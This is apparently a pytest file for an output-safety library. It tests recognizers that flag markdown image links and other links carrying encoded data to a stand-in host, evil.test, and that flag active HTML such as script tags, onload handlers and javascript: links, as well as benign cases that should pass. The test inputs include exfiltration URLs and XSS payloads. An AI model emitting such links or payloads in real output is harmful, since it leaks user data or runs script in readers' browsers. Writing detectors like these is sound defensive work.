"""Links that carry data out, and active HTML."""

from __future__ import annotations

import pytest

from promptward.auth.globs import GlobSet
from promptward.recognizers import RecognizerSet
from promptward.recognizers.unsafe_output import HTML, unsafe_urls

URLS = RecognizerSet(unsafe_urls(GlobSet(["*.acme.test", "acme.test"], lenient=True).matches))
ACTIVE = RecognizerSet(HTML)
DATA = "c2VjcmV0IGRhdGEgdGhhdCBsZWF2ZXMgdGhlIGNvbXBhbnk"


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.test/a.png)",
        "![](http://evil.test)",
        '![x](https://evil.test/a.png "title")',
        '<img src="https://evil.test/a.png">',
        "<IMG alt=x SRC=https://evil.test/a>",
        f"[click](https://evil.test/?d={DATA})",
        f"https://evil.test/collect#{DATA}",
        "![x](https://acme.test@evil.test/a.png)",
        "![x](HTTPS://EVIL.test/a.png)",
    ],
)
def test_unsafe_links(text: str) -> None:
    assert URLS.find(text), text


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://img.acme.test/logo.png)",
        "![logo](https://ACME.test/logo.png)",
        "![relative](/logo.png)",
        "See https://docs.python.org/3/library/re.html#re.compile",
        "[docs](https://evil.test/a-page-about-something?page=2&sort=asc)",
        f"https://acme.test/?d={DATA}",
        "https://evil.test/items/123e4567-e89b-12d3-a456-426614174000",
    ],
)
def test_ordinary_links(text: str) -> None:
    assert URLS.find(text) == []


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "< SCRIPT src=x>",
        "<iframe src=x></iframe>",
        '<b onmouseover="x()">',
        "<svg/onload=alert(1)>",
        "[x](javascript:alert(1))",
        '<meta http-equiv="refresh">',
    ],
)
def test_active_html(text: str) -> None:
    assert ACTIVE.find(text), text


@pytest.mark.parametrize(
    "text",
    [
        "a < b and c > d",
        "<b>bold</b>",
        "<scripted>",
        "List<String> once = x;",
        "We use JavaScript: it",
    ],
)
def test_harmless_html(text: str) -> None:
    found = ACTIVE.find(text)
    assert [m for m in found if "JavaScript: it" not in text] == []
